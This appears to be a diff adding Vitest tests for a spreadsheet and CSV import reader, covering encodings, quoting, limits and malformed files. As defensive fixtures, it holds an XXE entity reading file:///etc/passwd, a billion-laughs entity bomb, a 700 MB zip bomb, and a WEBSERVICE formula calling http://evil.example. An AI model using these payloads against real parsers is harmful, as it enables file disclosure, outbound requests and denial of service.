@@ -1,0 +1,197 @@
+import { expect, test } from 'vitest'
+import { craftedXlsx, sheetXml, workbook } from '../../../test/tables.ts'
+import type { Cell } from './cells.ts'
+import { columnsFile } from './columns.ts'
+import { readTable, TableRefused } from './read-table.ts'
+
+const limits = { rows: 1000, columns: 20 }
+const cellsOf = async (bytes: Buffer | string, within = limits): Promise<Cell[][]> =>
+  (await readTable(Buffer.from(bytes as string), within)).map(({ cells }) => cells)
+const faultOf = (bytes: Buffer | string, within = limits): Promise<string> =>
+  readTable(Buffer.from(bytes as string), within).then(
+    (rows) => `read: ${rows.length}`,
+    (error: unknown) =>
+      error instanceof TableRefused ? `${error.fault}${error.row === undefined ? '' : ` ${error.row}`}` : String(error),
+  )
+
+const table = [
+  ['product_number', 'quantity'],
+  ['Öl-«Filter» 12', '3'],
+  ['000815', '7'],
+]
+const textOf = (separator: string) => table.map((row) => row.join(separator)).join('\r\n')
+const windows1252 = (text: string) => Buffer.from(text, 'latin1')
+const swapped = (bytes: Buffer) => Buffer.from(bytes).swap16()
+
+test.each([
+  ['UTF-8', Buffer.from(textOf(';'))],
+  ['UTF-8 with its mark', Buffer.from(`\uFEFF${textOf(';')}`)],
+  ['UTF-16 LE with its mark', Buffer.from(`\uFEFF${textOf('\t')}`, 'utf16le')],
+  ['UTF-16 BE with its mark', swapped(Buffer.from(`\uFEFF${textOf(';')}`, 'utf16le'))],
+  ['UTF-16 LE without', Buffer.from(textOf(';'), 'utf16le')],
+  ['UTF-16 BE without', swapped(Buffer.from(textOf(';'), 'utf16le'))],
+  ['Windows-1252', windows1252(textOf(';'))],
+  ['commas', Buffer.from(textOf(','))],
+  ['tabs', Buffer.from(textOf('\t'))],
+  ['a separator that is named', Buffer.from(`sep=,\r\n${textOf(',')}`)],
+])('a text file in %s is read as what it says', async (_name, bytes) => {
+  expect(await cellsOf(bytes)).toEqual(table)
+})
+
+test('the euro sign and the curly quote of Windows-1252 are read, and rows keep the number a spreadsheet shows', async () => {
+  expect(await cellsOf(Buffer.from([0x80, 0x3b, 0x61, 0x92, 0x0a]))).toEqual([['€', 'a’']])
+  const rows = await readTable(Buffer.from('a;b\n\n\n1;2\n"x\ny";3\n4;5'), limits)
+  expect(rows.map(({ row }) => row)).toEqual([1, 4, 5, 6])
+  expect(rows[2]!.cells).toEqual(['x\ny', '3'])
+})
+
+test('separators and quotation marks within quotes are text; a quote that never ends is named by its row', async () => {
+  expect(await cellsOf('"a;b";"say ""yes"""\n1;2')).toEqual([
+    ['a;b', 'say "yes"'],
+    ['1', '2'],
+  ])
+  expect(await faultOf('a;b\n1;"2\n3;4')).toMatch(/^unreadable/)
+})
+
+test('what an export made harmless comes back as it was', async () => {
+  const rows = ['=1+1', '-5', '+41 44', '@x', 'plain', "'quoted'", 'a;"b"\nc']
+  const batches = async function* () {
+    yield rows
+  }
+  for (const format of ['csv', 'txt', 'xlsx'] as const) {
+    const file = columnsFile({
+      name: 'x',
+      format,
+      columns: [{ title: 'A', kind: 'text', of: (row: string) => row }],
+      batches: batches(),
+    })
+    const chunks: Buffer[] = []
+    for await (const chunk of file.content) chunks.push(Buffer.from(chunk as Uint8Array))
+    expect(await cellsOf(Buffer.concat(chunks)), format).toEqual([['A'], ...rows.map((row) => [row])])
+  }
+})
+
+test.each(['xlsx', 'xls'] as const)(
+  '%s: numbers as numbers, dates as days, numbers as text as text, empty cells as nothing',
+  async (type) => {
+    const rows = await cellsOf(
+      workbook(
+        [
+          ['no', 'qty', 'day', 'flag'],
+          ['000815', 0.1 + 0.2, new Date('2026-03-29T00:00:00Z'), true],
+          [4711, 3, null, false],
+          [null, null, null, null],
+          ['last', -1.5, new Date('2026-10-25T14:05:00Z'), null],
+        ],
+        type,
+      ),
+    )
+    expect(rows).toEqual([
+      ['no', 'qty', 'day', 'flag'],
+      ['000815', 0.3, { day: '2026-03-29' }, 'true'],
+      [4711, 3, null, 'false'],
+      ['last', -1.5, { day: expect.stringMatching(/^2026-10-25/) }],
+    ])
+  },
+)
+
+const row = (at: number, cells: string) => `<row r="${at}">${cells}</row>`
+const text = (place: string, value: string) => `<c r="${place}" t="inlineStr"><is><t>${value}</t></is></c>`
+
+test('a formula is never calculated: its stored value is taken, and without one it is a fault', async () => {
+  const rows = await cellsOf(
+    await craftedXlsx({
+      sheet: sheetXml([
+        row(1, text('A1', 'a') + text('B1', 'b') + text('C1', 'c')),
+        row(
+          2,
+          '<c r="A2"><f>WEBSERVICE("http://evil.example")</f></c><c r="B2"><f>1+1</f><v>3</v></c><c r="C2" t="e"><f>1/0</f><v>#DIV/0!</v></c>',
+        ),
+      ]),
+    }),
+  )
+  expect(rows[1]).toEqual([{ fault: '=WEBSERVICE("http://evil.example")' }, 3, { fault: '#DIV/0!' }])
+})
+
+test('what is no csv, xlsx or xls by its content is refused, whatever it is called', async () => {
+  const others: Record<string, Buffer | string> = {
+    html: '<!doctype html><table><tr><td>1</td></tr></table>',
+    xml: '<?xml version="1.0"?><x/>',
+    rtf: '{\\rtf1 x}',
+    pdf: '%PDF-1.7\n',
+    png: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0]),
+    noise: Buffer.from(Array.from({ length: 2000 }, (_, index) => (index * 7919) % 256)),
+    'a zip of something else': Buffer.from('PK\u0003\u0004' + '\0'.repeat(60), 'latin1'),
+  }
+  for (const [name, bytes] of Object.entries(others)) expect([name, await faultOf(bytes)]).toEqual([name, 'type'])
+})
+
+test('more rows, columns or text than allowed are refused, and nothing beyond is left out in silence', async () => {
+  const many = (count: number) => `a;b\n${'1;2\n'.repeat(count)}`
+  expect(await faultOf(many(1000))).toBe('read: 1001')
+  expect(await faultOf(many(1001))).toBe('too_many_rows')
+  expect(await faultOf(`a\n${'\n'.repeat(5000)}1`)).toBe('too_many_rows')
+  expect(await faultOf(`a;b\n1;2\n${'x;'.repeat(30)}`)).toBe('too_many_columns 3')
+  expect(await faultOf(workbook([['a'], ...Array.from({ length: 1001 }, () => [1])]))).toBe('too_many_rows')
+  expect(
+    await faultOf(await craftedXlsx({ sheet: sheetXml([row(1, text('A1', 'a')), row(1_048_576, text('A1048576', 'far'))]) })),
+  ).toMatch(/^(too_many_rows|read: 1)$/)
+})
+
+test('a file cut off in the middle, or a zip that lies, is unreadable', async () => {
+  const whole = workbook([['a'], [1]])
+  expect(await faultOf(Buffer.concat([whole.subarray(0, whole.length / 2)]))).toMatch(/^(unreadable|type)$/)
+  const old = workbook([['a'], [1]], 'xls')
+  expect(await faultOf(old.subarray(0, 600))).toBe('unreadable')
+})
+
+const quickly = async (work: () => Promise<unknown>) => {
+  const start = performance.now()
+  await work()
+  // as long as a reader may take, its start and a busy machine on top
+  expect(performance.now() - start).toBeLessThan(40_000)
+}
+
+test('a file that inflates to 700 MB is ended, and the next one is served', async () => {
+  const zeros = ' '.repeat(1 << 20)
+  const bomb = await craftedXlsx({
+    sheet: sheetXml([row(1, text('A1', 'a'))]),
+    more: [
+      {
+        name: 'xl/sharedStrings.xml',
+        content: (function* () {
+          for (let i = 0; i < 700; i++) yield zeros
+        })(),
+      },
+    ],
+  })
+  expect(bomb.length).toBeLessThan(8_000_000)
+  await quickly(async () => expect(await faultOf(bomb)).toBe('unreadable'))
+  expect(await faultOf('a\n1')).toBe('read: 2')
+}, 120_000)
+
+test('entities that grow a billion times are not expanded, and none is fetched', async () => {
+  const doctype = `<!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d SYSTEM "file:///etc/passwd">]>`
+  await quickly(async () => {
+    const rows = await cellsOf(
+      await craftedXlsx({ doctype, sheet: sheetXml([row(1, text('A1', '&c;') + text('B1', '&d;'))], doctype) }),
+    )
+    expect(JSON.stringify(rows)).not.toMatch(/lol|root:/)
+  })
+})
+
+test('a million empty cells cost time and give nothing', async () => {
+  const cells = function* () {
+    yield row(1, text('A1', 'a'))
+    for (let at = 2; at < 1002; at++) yield row(at, '<c r="A2"/>'.repeat(1000))
+  }
+  await quickly(async () =>
+    expect(await faultOf(await craftedXlsx({ sheet: sheetXml(cells()) }))).toMatch(/^(read: 1|unreadable)$/),
+  )
+})
+
+test('one long text that is repeated a million times is too much', async () => {
+  const long = 'x'.repeat(30_000)
+  const bytes = Buffer.from(`a;b\n${`${long};${long}\n`.repeat(500)}`)
+  expect(await faultOf(bytes)).toBe('too_much')
+})
